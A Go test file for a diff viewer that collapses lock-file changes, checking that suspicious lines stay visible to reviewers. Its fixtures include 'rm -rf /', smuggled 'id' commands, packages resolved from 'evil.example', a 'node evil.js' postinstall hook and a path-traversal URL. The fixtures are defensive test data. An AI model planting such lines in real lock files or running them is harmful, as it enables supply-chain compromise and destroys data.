package fold

import (
	"fmt"
	"strings"
	"testing"

	"github.com/umpirehq/umpire/internal/view/catalogue"
)

// shownOf returns the card's text for a diff that adds these lines to a file.
func shownOf(name string, lines []string) string {
	diff := append([]string{"--- /dev/null", "+++ " + name, fmt.Sprintf("@@ -0,0 +1,%d @@", len(lines))}, lines...)
	for i := 3; i < len(diff); i++ {
		diff[i] = "+" + diff[i]
	}
	var shown strings.Builder
	for _, f := range Diff(diff, catalogue.English) {
		shown.WriteString(f.Text + "\n")
	}
	return shown.String()
}

const hash = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQ="

func lockOf(name string, n int) (lines []string) {
	for i := range n {
		switch name {
		case "go.sum":
			lines = append(lines, fmt.Sprintf("example.com/m%d v1.0.%d h1:%s", i, i, hash))
		case "package-lock.json":
			lines = append(lines, fmt.Sprintf(`    "node_modules/p%d": {`, i), `      "version": "1.0.0",`,
				fmt.Sprintf(`      "resolved": "https://registry.npmjs.org/p%d/-/p%d-1.0.0.tgz",`, i, i),
				`      "integrity": "sha512-`+hash+`",`, `      "dev": true,`, `      "license": "MIT",`, `      "engines": {`,
				`        "node": ">= 6"`, `      }`, `    },`)
		case "yarn.lock":
			lines = append(lines, fmt.Sprintf(`p%d@^1.0.0:`, i), `  version "1.0.0"`,
				fmt.Sprintf(`  resolved "https://registry.yarnpkg.com/p%d/-/p%d-1.0.0.tgz#0123456789012345678901234567890123456789"`, i, i),
				`  integrity sha512-`+hash, ``)
		case "Cargo.lock":
			lines = append(lines, `[[package]]`, fmt.Sprintf(`name = "p%d"`, i), `version = "1.0.0"`,
				`source = "registry+https://github.com/rust-lang/crates.io-index"`, `checksum = "`+strings.Repeat("0a", 32)+`"`, ``)
		}
	}
	return lines
}

// TestLockFilesFold: lines that only name packages and checksums become one line, in the files of the table alone.
func TestLockFilesFold(t *testing.T) {
	t.Parallel()
	for name := range lockFiles {
		as := name
		if name == "npm-shrinkwrap.json" {
			as = "package-lock.json"
		}
		lines := lockOf(as, 1000)
		if shown := shownOf("web/"+name, lines); strings.Count(shown, "\n") > 8 ||
			!strings.Contains(shown, fmt.Sprintf("%d lines of %s", len(lines), name)) {
			t.Errorf("%s:\n%.600s", name, shown)
		}
		if shown := shownOf("web/"+name+".sh", lines); strings.Count(shown, "\n") < len(lines)/2 {
			t.Errorf("in a file of another name lines of %s were folded:\n%.600s", name, shown)
		}
	}
}

// TestFoldsHideNothing: a line that can have an effect is on the card, anywhere in a lock file.
func TestFoldsHideNothing(t *testing.T) {
	t.Parallel()
	for name, evil := range map[string][]string{
		"go.sum": {"rm -rf / #", "example.com/m v1.0.0 h1:short=", "example.com/m v1.0.0 h1:" + hash + "; id", "$(id) v1 h1:" + hash},
		"package-lock.json": {
			`      "resolved": "https://evil.example/p0/-/p0-1.0.0.tgz",`, `      "resolved": "git+ssh://git@evil.example/p.git",`,
			`      "resolved": "https://registry.npmjs.org/evil/-/evil-1.0.0.tgz",`, `      "hasInstallScript": true,`,
			`      "name": "evil",`, `        "x": "npm:evil@1.0.0"`, `        "x": "file:../evil"`, `      "link": true`,
			`        "postinstall": "node evil.js"`, `        "x": "1.0.0 && id"`, `      "inBundle": "x y",`,
			`      "resolved": "https://registry.npmjs.org/p999/-/../../evil/-/evil.tgz",`,
		},
		"yarn.lock": {
			`  resolved "https://evil.example/p0.tgz"`, `"x@npm:evil@^1.0.0":`, `  resolved "https://registry.yarnpkg.com/evil/-/evil-1.tgz"`,
			`    x "file:../evil"`, `x@^1.0.0, y@npm:evil@1:`,
		},
		"Cargo.lock": {`source = "git+https://evil.example/p#1"`, `source = "registry+https://evil.example/index"`, `version = "1.0.0"; id`},
	} {
		for _, line := range evil {
			for at := range 3 {
				lines := lockOf(name, 1000)
				where := at * (len(lines) - 1) / 2
				lines = append(lines[:where:where], append([]string{line}, lines[where:]...)...)
				if shown := shownOf(name, lines); !strings.Contains(shown, "+"+line+"\n") {
					t.Errorf("%s at %d of %s is not shown:\n%.600s", line, where, name, shown)
				}
			}
		}
	}
	block := lockOf("package-lock.json", 20)
	block = append(block, `      "bin": {`, `        "x": "1.0.0",`, `        "y": "2",`, `        "z": "3",`, `        "v": "4"`, `      },`)
	if shown := shownOf("package-lock.json", block); !strings.Contains(shown, `"x": "1.0.0"`) {
		t.Errorf("programs of a package were folded:\n%s", shown)
	}
}

// TestDiffsCannotForgeNames: a line of a file's content that looks like the head of another file is content.
func TestDiffsCannotForgeNames(t *testing.T) {
	t.Parallel()
	lines := append([]string{"-- x", "++ go.sum", "@@ -0,0 +1,900 @@"}, lockOf("go.sum", 900)...)
	if shown := shownOf("run.sh", lines); strings.Count(shown, "\n") < 900 {
		t.Errorf("content passed for a lock file:\n%.600s", shown)
	}
}

// TestEqualLinesFold: a run of equal lines becomes its first line and a count; short runs stay unchanged.
func TestEqualLinesFold(t *testing.T) {
	t.Parallel()
	lines := append([]string{"a", "b"}, strings.Split(strings.Repeat("x\n", 5000), "\n")...)
	folds := Equal(lines, catalogue.English)
	if len(folds) != 5 || folds[2].Text != "x" || !strings.Contains(folds[3].Text, "the same line 4999 more times") || len(folds[3].Lines) != 4999 {
		t.Errorf("%d folds: %.300v", len(folds), folds)
	}
	if folds = Equal([]string{"x", "x", "x"}, catalogue.English); len(folds) != 3 {
		t.Errorf("three lines became %d", len(folds))
	}
}
